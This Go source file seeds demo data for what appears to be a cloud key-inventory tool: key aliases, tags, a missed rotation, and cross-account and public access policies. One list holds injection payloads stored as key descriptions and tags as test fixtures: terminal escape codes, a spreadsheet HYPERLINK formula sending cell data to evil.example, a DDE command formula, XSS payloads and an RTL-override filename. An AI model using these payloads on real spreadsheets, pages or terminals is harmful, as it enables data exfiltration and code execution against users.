package sandbox

import (
	"maps"
	"strings"
	"time"
)

// demoNotables turns some keys of the demo into ones that a reader will meet:
// the names that the documentation uses, and everything that has ever broken a
// table, a spreadsheet or a report.
func demoNotables(keys []placed, start time.Time) {
	const off = 612 // where the keys that do not rotate begin
	name := func(n int, account, region, alias string, created int, tags map[string]string) {
		p := &keys[n]
		p.account, p.region = account, region
		p.seed.Aliases, p.seed.Created = []string{"alias/" + alias}, daysBefore(start, created)
		p.seed.LastUsed = daysBefore(start, 1)
		maps.Copy(p.seed.Tags, tags)
	}
	name(off, "641250388507", "us-east-1", "payments", 1990, map[string]string{"env": "prod", "owner": "payments", "compliance": "pci"})
	name(off+1, "111122223333", "us-east-1", "payments-dev", 1200, map[string]string{"env": "dev", "owner": "payments"})
	name(off+2, "111122223333", "us-east-1", "etl-scratch", 800, map[string]string{"env": "dev", "owner": "data"})
	name(off+3, "752369499618", "eu-west-1", "orders", 2700, map[string]string{"env": "prod", "owner": "orders"})
	name(off+4, "204417398812", "us-east-1", "audit-trail", 1500, map[string]string{"env": "prod", "owner": "security"})
	name(0, "863478500729", "us-east-1", "identity", 2000, map[string]string{"env": "prod", "owner": "identity"})

	// A rotation that was due forty days ago and is missing from the history.
	missed := &keys[1]
	name(1, missed.account, missed.region, "warehouse-archive", 1500, nil)
	missed.seed.RotationSince, missed.seed.RotationPeriodDays, missed.seed.MissedRotations = missed.seed.Created, 365, 1

	// Names and words that are not harmless to print.
	hostile := []struct{ description, tag string }{
		{"\x1b[2J\x1b[1;31mALL KEYS DELETED\x1b[0m", "\x1b]0;owned\x07"},
		{"=HYPERLINK(\"http://evil.example/?\"&A1,\"details\")", "=cmd|' /C calc'!A0"},
		{"+1+1 looks like a sum", "@SUM(1+1)"},
		{"<script>alert('kms')</script>", "<img src=x onerror=alert(1)>"},
		{"two\r\nlines,\tand \"quotes\"", "a\u202egnp.exe"},
		{strings.Repeat("very long ", 820)[:8192], strings.Repeat("v", 256)},
	}
	for i, h := range hostile {
		p := &keys[off+10+i]
		p.seed.Description = h.description
		p.seed.Tags["note"] = h.tag
	}

	// Policies that let others in: two partners, one account of this organization,
	// and one key that is open to everybody.
	for i, principal := range []string{
		"arn:aws:iam::999988887777:root", "arn:aws:iam::999988887777:role/etl", "555566667777",
		"arn:aws:iam::974587611830:root", "*",
	} {
		p := &keys[off+20+i]
		p.seed.Policy = forAccount(allowTo(principal), p.account)
		q := &keys[20+i]
		q.seed.Policy = forAccount(allowTo(principal), q.account)
	}
	// A tag that a policy leans on must not be changed lightly.
	p := &keys[off+30]
	p.seed.Policy = forAccount(strings.Replace(allowTo("arn:aws:iam::752369499618:root"), `"Resource":"*"}]`,
		`"Resource":"*","Condition":{"StringEquals":{"aws:ResourceTag/env":"prod"}}}]`, 1), p.account)
}

// demoHidden are the keys that cannot be counted or cannot be read: twenty in
// the place whose SCP forbids listing, and one whose policy shuts everybody out.
func demoHidden(start time.Time) []placed {
	out := []placed{{"863478500729", "eu-west-1", KeySeed{
		Created: daysBefore(start, 1100), Policy: forAccount(policyShut, "863478500729"),
		Aliases: []string{"alias/identity/vault-root"}, Tags: map[string]string{"owner": "identity"},
	}}}
	for i := range 20 {
		out = append(out, placed{"210987654321", "eu-west-1", KeySeed{Created: daysBefore(start, 900+i*11)}})
	}
	return out
}
